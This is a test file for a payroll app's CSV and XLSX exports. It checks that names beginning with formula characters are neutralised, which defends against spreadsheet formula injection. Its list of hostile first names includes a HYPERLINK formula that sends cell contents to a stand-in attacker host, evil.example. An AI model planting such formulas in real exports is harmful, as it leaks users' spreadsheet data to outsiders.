import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../helpers/app.js';
import { DIALECTS } from '../../helpers/database.js';
import { createOrgFixture } from '../../helpers/factories.js';
import { payKit } from './fixtures.js';

/** First names a roster may hold that a spreadsheet would run as formulas (OWASP "CSV Injection"). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1;"click")',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTab',
  '\rReturn',
  '＝1+1',
];

describe.each(DIALECTS)('CSV formula injection on %s', (dialect) => {
  const ctx = useTestApp(dialect);

  it('every user-controlled cell starting with = + - @ tab or CR is prefixed with a quote in the CSVs; numbers and plain names are untouched; XLSX keeps them as text', async () => {
    const org = await createOrgFixture(ctx.app);
    const kit = payKit(ctx.app, org);
    const ids = new Map<string, string>();
    for (const [i, first] of [...HOSTILE, 'Léa'].entries()) {
      const user = await kit.user({ first, last: `Person${i}` });
      ids.set(user, first);
      const day = String(3 + i).padStart(2, '0');
      const { assignmentId } = await kit.engagement(
        user,
        `2031-03-${day}T08:00:00.000Z`,
        `2031-03-${day}T10:00:00.000Z`,
      );
      await kit.approve(assignmentId);
    }

    for (const path of ['/pay/exports/monthly.csv?month=2031-03', '/pay/exports/aem.csv?month=2031-03']) {
      const res = await kit.get(org.admin.headers, path);
      expect(res.statusCode, res.body).toBe(200);
      const records = parse(res.rawPayload, { bom: true, delimiter: ';', columns: true }) as Record<
        string,
        string
      >[];
      expect(records).toHaveLength(HOSTILE.length + 1);
      for (const r of records) {
        const first = ids.get(r.user_id!)!;
        const name = `${first} ${r.user_name!.split(' ').at(-1)}`;
        expect(r.user_name).toBe(first === 'Léa' ? name : `'${name}`);
        // Excel would start evaluating here; no cell does
        for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
      }
      expect(records.find((r) => ids.get(r.user_id!) === 'Léa')).toMatchObject({ user_name: 'Léa Person7' });
    }

    const xlsx = await kit.get(org.admin.headers, '/pay/exports/monthly.xlsx?month=2031-03');
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('2031-03')!;
    const names: string[] = [];
    for (let row = 2; row <= sheet.rowCount; row++) {
      const cell = sheet.getRow(row).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String); // a string cell: never evaluated, no quote needed
      expect(cell.formula).toBeUndefined();
      names.push(String(cell.value));
    }
    expect(names).toContain('=HYPERLINK("http://evil.example/?d="&A1;"click") Person0');
  });
});
